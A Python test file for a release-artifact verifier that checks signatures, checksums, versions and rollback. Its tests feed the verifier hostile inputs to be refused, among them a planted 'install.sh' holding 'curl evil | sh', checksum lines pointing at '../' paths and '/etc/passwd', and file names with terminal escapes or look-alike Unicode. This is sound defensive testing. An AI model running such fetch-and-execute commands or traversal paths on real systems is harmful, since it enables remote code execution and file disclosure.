"""The release as a set: nothing missing, nothing extra, nothing twice, nothing odd, sums that are right, one version, no older one."""

from __future__ import annotations

import os
import shutil
import socket
from pathlib import Path

import pytest

from checker.release import artifacts
from tests.release.gate import ARTIFACT, SDIST, WHEEL, Gate, sums
from tests.release.sigstore import Signed, slsa_1, subject, workflow

WHEEL_BYTES = b"the wheel\n"
BOTH = [{"files": "*.tar.gz", "count": 1}, {"files": "*.whl", "count": 1}]
BUNDLE = f"{SDIST}.sigstore.json"


def both(gate: Gate, **how: str) -> None:
    """Sdist and wheel, each signed."""
    gate.release(gate.attested(**how), gate.attested(WHEEL_BYTES, WHEEL, **how))


def refuse(gate: Gate, **policy: object) -> None:
    """What lies there is refused."""
    gate.policy(**{"artifacts": BOTH, **policy})
    gate.refuses(gate.verify())


def test_both(gate: Gate) -> None:
    """A release that is whole is accepted."""
    both(gate)
    gate.policy(artifacts=BOTH, one=["version", "commit", "ref"], minimum_version="1.2.0", signed_since="2025-06-12")
    gate.accepts(gate.verify())


def test_nothing_to_check(gate: Gate) -> None:
    """An empty folder is no success."""
    gate.dist.mkdir()
    refuse(gate)


def test_nothing_to_check_and_nothing_wanted(gate: Gate) -> None:
    """An empty folder is no success either where the policy wants no file."""
    gate.dist.mkdir()
    gate.policy(artifacts=[{"files": "*.tar.gz", "at-least": 0}])
    gate.refuses(gate.verify(), 2)


def test_no_such_folder(gate: Gate) -> None:
    """A folder that is not there is no success."""
    gate.policy()
    gate.refuses(gate.verify(), 2)


def test_extra_file(gate: Gate) -> None:
    """A file that nothing names is refused."""
    both(gate)
    (gate.dist / "install.sh").write_text("curl evil | sh\n", encoding="utf-8")
    refuse(gate)


@pytest.mark.parametrize("name", [".hidden", "sub/demo-1.2.0.tar.gz", "demo-1.2.0.tar.gz.bak", "trusted_root.json"])
def test_extra_file_anywhere(gate: Gate, name: str) -> None:
    """Hidden files, files in folders, and files with names that only look right are extra too."""
    both(gate)
    (gate.dist / name).parent.mkdir(exist_ok=True)
    (gate.dist / name).write_bytes(ARTIFACT)
    refuse(gate)


def test_unsigned_artifact(gate: Gate) -> None:
    """An artifact without a bundle is refused."""
    both(gate)
    (gate.dist / BUNDLE).unlink()
    refuse(gate)


def test_required_artifact_missing(gate: Gate) -> None:
    """A pattern that matches nothing is refused."""
    gate.release(gate.attested())
    refuse(gate)


def test_more_than_wanted(gate: Gate) -> None:
    """More files of a kind than the policy wants are refused, though each is signed."""
    both(gate)
    gate.release(gate.attested(b"older\n", "demo-1.1.0.tar.gz"))
    refuse(gate)


def test_bundle_without_its_artifact(gate: Gate) -> None:
    """A bundle whose artifact is gone is refused."""
    both(gate)
    (gate.dist / WHEEL).unlink()
    refuse(gate)


def test_swapped_bundles(gate: Gate) -> None:
    """Two good bundles under each other's name prove nothing."""
    both(gate)
    one, other, between = gate.dist / BUNDLE, gate.dist / f"{WHEEL}.sigstore.json", gate.dist / "x"
    one.rename(between)
    other.rename(one)
    between.rename(other)
    refuse(gate)


def test_one_bundle_for_two_artifacts(gate: Gate) -> None:
    """A bundle that is copied to another artifact does not count for it."""
    both(gate)
    shutil.copy(gate.dist / BUNDLE, gate.dist / f"{WHEEL}.sigstore.json")
    refuse(gate)


def test_changed_artifact(gate: Gate) -> None:
    """An artifact with one byte more is another one."""
    both(gate)
    with (gate.dist / SDIST).open("ab") as stream:
        stream.write(b"x")
    refuse(gate)


def test_bad_bundle_beside_a_good_one(gate: Gate) -> None:
    """A bundle that does not verify is refused, also where another one does."""
    both(gate)
    rogue = gate.sigstore.sign(ARTIFACT, name=SDIST, flaw="rogue-authority")
    rogue.write(gate.dist, ".sigstore")
    (gate.folder / "trusted_root.json").unlink()
    refuse(gate)


def test_sums_right(gate: Gate) -> None:
    """A sums file that names every artifact rightly is accepted."""
    both(gate)
    (gate.dist / "SHA256SUMS").write_text(sums(gate.dist, [SDIST, WHEEL]), encoding="utf-8")
    gate.policy(artifacts=BOTH, sums={"file": "SHA256SUMS"})
    gate.accepts(gate.verify())
    (gate.dist / "SHA256SUMS").write_text(sums(gate.dist, [SDIST, WHEEL], "sha512"), encoding="utf-8")
    gate.accepts(gate.verify())


def test_sums_of_everything(gate: Gate) -> None:
    """Sums may name signatures and other files of the folder too, and must be right for them."""
    both(gate)
    (gate.dist / "NOTES.md").write_text("what is new\n", encoding="utf-8")
    names = [path.name for path in gate.dist.iterdir()]
    (gate.dist / "SHA256SUMS").write_text(sums(gate.dist, names), encoding="utf-8")
    gate.policy(artifacts=BOTH, sums={"file": "SHA256SUMS"}, extra_files=["*.md"])
    gate.accepts(gate.verify())
    (gate.dist / "NOTES.md").write_text("what is newer\n", encoding="utf-8")
    gate.refuses(gate.verify())


def test_artifact_with_the_ending_of_a_bundle(gate: Gate) -> None:
    """A file that ends like a bundle is an artifact where the policy's pattern ends so too, and must be signed as any other."""
    gate.release(gate.attested(), gate.attested(b'{"row": 1}\n{"row": 2}\n', "rows.jsonl"))
    gate.policy(artifacts=[{"files": "*.tar.gz"}, {"files": "*.jsonl"}])
    gate.accepts(gate.verify())
    (gate.dist / "more.jsonl").write_text('{"row": 3}\n', encoding="utf-8")
    gate.refuses(gate.verify())


def test_another_name_for_the_same_bytes(gate: Gate) -> None:
    """A wheel or sdist that its own statement calls otherwise is refused: its name says what installers take it for."""
    gate.release(gate.attested(name="other-9.9.9.tar.gz", statement=slsa_1([subject(SDIST, ARTIFACT)])))
    gate.policy()
    gate.refuses(gate.verify())


@pytest.mark.parametrize("told", ["dist/demo-1.2.0.tar.gz", "Demo-1.2.tar.gz", "demo", ""])
def test_a_name_that_says_the_same(gate: Gate, told: str) -> None:
    """A statement may spell the name in another way, with folders before it, or call the file something else altogether."""
    gate.release(gate.attested(statement=slsa_1([subject(told, ARTIFACT)])))
    gate.policy()
    gate.accepts(gate.verify())


SUMS = {
    "missing": None,
    "empty": "",
    "blank": "\n\n",
    "omits a file": "{sdist}",
    "names one twice": "{sdist}{wheel}{wheel}",
    "names one twice otherwise": "{sdist}{wheel}" + "0" * 64 + f"  {SDIST}\n",
    "names one that is not there": "{sdist}{wheel}" + "0" * 64 + "  demo-1.2.0.exe\n",
    "leads out": "{sdist}{wheel}" + "0" * 64 + "  ../demo-1.2.0.tar.gz\n",
    "absolute": "{sdist}{wheel}" + "0" * 64 + "  /etc/passwd\n",
    "backslash": "{sdist}{wheel}\\" + "0" * 64 + "  demo\\n1.2.0.tar.gz\n",
    "short": "{sdist}" + "0" * 40 + f"  {WHEEL}\n",
    "wrong": "{sdist}" + "0" * 64 + f"  {WHEEL}\n",
    "upper case": "{sdist}" + "A" * 64 + f"  {WHEEL}\n",
    "no name": "{sdist}{wheel}" + "0" * 64 + "\n",
    "control": "{sdist}{wheel}" + "0" * 64 + "  a\x1b[31mb\n",
}  # fmt: skip


@pytest.mark.parametrize("what", SUMS)
def test_sums(gate: Gate, what: str) -> None:
    """Sums that are missing, empty, incomplete, doubled, wrong, short or lead elsewhere are refused."""
    both(gate)
    text = SUMS[what]
    if text is not None:
        lines = {"sdist": sums(gate.dist, [SDIST]), "wheel": sums(gate.dist, [WHEEL])}
        (gate.dist / "SHA256SUMS").write_text(text.format(**lines), encoding="utf-8")
    refuse(gate, sums={"file": "SHA256SUMS"})


def test_symbolic_link(gate: Gate) -> None:
    """An artifact that is a link to a file elsewhere is refused, whatever that file holds."""
    both(gate)
    (gate.folder / "elsewhere").write_bytes(ARTIFACT)
    (gate.dist / SDIST).unlink()
    (gate.dist / SDIST).symlink_to("../elsewhere")
    refuse(gate)


def test_linked_folder(gate: Gate) -> None:
    """A link to a folder is refused and not followed."""
    both(gate)
    (gate.dist / "more").symlink_to(gate.folder)
    refuse(gate)


def test_named_pipe(gate: Gate) -> None:
    """A named pipe is refused and not waited for."""
    both(gate)
    (gate.dist / SDIST).unlink()
    os.mkfifo(gate.dist / SDIST)
    refuse(gate)


def test_socket(gate: Gate) -> None:
    """A socket is refused."""
    both(gate)
    (gate.dist / SDIST).unlink()
    with socket.socket(socket.AF_UNIX) as one:
        here = Path.cwd()
        os.chdir(gate.dist)  # the address of a socket is short
        try:
            one.bind(SDIST)
        finally:
            os.chdir(here)
    refuse(gate)


def test_device(gate: Gate) -> None:
    """A device that is named as an artifact is refused."""
    gate.policy()
    gate.refuses(gate.verify("/dev/null"))


@pytest.mark.parametrize(
    "name", ["a\nb.tar.gz", "a\x1b[31mb.tar.gz", "a\u202eb.tar.gz", "a\u200bb.tar.gz", "a\\b.tar.gz", os.fsdecode(b"a\xffb.tar.gz")]
)
def test_odd_names(gate: Gate, name: str) -> None:
    """Names with line breaks, terminal control, invisible letters, backslashes or odd bytes are refused, and printed harmlessly."""
    gate.release(gate.attested())
    (gate.dist / name).write_bytes(ARTIFACT)
    gate.policy()
    printed = gate.verify()
    assert not any(letter in printed for letter in "\x1b\u202e\u200b")
    gate.refuses(printed)


@pytest.mark.parametrize(
    ("one", "other"), [("demo-1.2.0.tar.gz", "Demo-1.2.0.tar.gz"), ("caf\u00e9.tar.gz", "cafe\u0301.tar.gz"), ("\u017f.tar.gz", "s.tar.gz")]
)
def test_twins(gate: Gate, one: str, other: str) -> None:
    """Two names that some file system holds to be one are refused."""
    gate.release(gate.attested(name=one), gate.attested(name=other))
    gate.policy()
    gate.refuses(gate.verify())


def test_file_that_changes_while_it_is_checked(gate: Gate, monkeypatch: pytest.MonkeyPatch) -> None:
    """An artifact that is written to after it was hashed is refused."""
    gate.release(gate.attested())
    hashed = artifacts.hash_file

    def hash_and_change(real: str, name: str, **how: bool) -> artifacts.Hashed:
        found = hashed(real, name, **how)
        os.utime(real, (1, 1))
        return found

    monkeypatch.setattr("checker.release.evidence.hash_file", hash_and_change)
    gate.policy()
    gate.refuses(gate.verify())


def older(gate: Gate, name: str = "demo-1.1.0.tar.gz") -> Signed:
    """The release before, as it was signed two days ago."""
    tag = "refs/tags/v1.1.0"
    return gate.attested(
        b"older\n", name, statement=slsa_1([subject("demo-1.1.0.tar.gz", b"older\n")], ref=tag), identity=workflow(ref=tag)
    )


def test_older_release(gate: Gate) -> None:
    """An older release's files, with their good signatures, are a rollback below the minimum version."""
    gate.release(older(gate))
    gate.policy(minimum_version="1.2.0")
    gate.refuses(gate.verify())


def test_older_release_under_a_new_name(gate: Gate) -> None:
    """Renaming an older release's file does not make it the new one: its statement and its tag tell the version."""
    gate.release(older(gate, SDIST))
    gate.policy(minimum_version="1.2.0")
    gate.refuses(gate.verify())


def test_older_plain_signature_under_a_new_name(gate: Gate) -> None:
    """The same for a plain signature, whose certificate still tells the tag."""
    gate.release(gate.sigstore.sign(b"older\n", name=SDIST, identity=workflow(ref="refs/tags/v1.1.0")))
    gate.policy(minimum_version="1.2.0")
    gate.refuses(gate.verify())


def test_another_version_than_the_one_that_goes_out(gate: Gate) -> None:
    """With ``--version`` files of another one are refused, also under that one's name."""
    gate.release(older(gate, SDIST))
    gate.policy()
    gate.refuses(gate.verify("dist", "--version", "1.2.0"))


def test_signed_before_the_day(gate: Gate) -> None:
    """A signature from before the policy's day is a rollback."""
    gate.release(gate.attested())
    gate.policy(signed_since="2025-06-13")
    gate.refuses(gate.verify())


def test_two_versions(gate: Gate) -> None:
    """Artifacts of two versions are no release."""
    gate.release(gate.attested(), gate.attested(WHEEL_BYTES, "demo-1.3.0-py3-none-any.whl"))
    refuse(gate, one=["version"])


def test_two_commits_and_refs(gate: Gate) -> None:
    """Artifacts of two commits or two refs are no release."""
    other = {"commit": "ab" * 20, "ref": "refs/tags/v1.2.1"}
    signed = gate.attested(WHEEL_BYTES, WHEEL, **other, identity=workflow(**other))
    gate.release(gate.attested(), signed)
    refuse(gate, one=["commit", "ref"])


def test_a_second_statement_of_another_commit(gate: Gate) -> None:
    """An artifact that is signed once more from another commit is of two commits."""
    gate.release(gate.attested())
    gate.attested(commit="ab" * 20, identity=workflow(commit="ab" * 20)).write(gate.dist, ".slsa.attestation")
    gate.policy(one=["commit"])
    gate.refuses(gate.verify())


def test_another_commit_than_the_one_that_goes_out(gate: Gate) -> None:
    """With ``--commit`` and ``--ref`` artifacts of others are refused."""
    both(gate)
    gate.policy(artifacts=BOTH)
    gate.refuses(gate.verify("dist", "--commit", "ab" * 20, "--ref", "refs/tags/v1.2.1"))
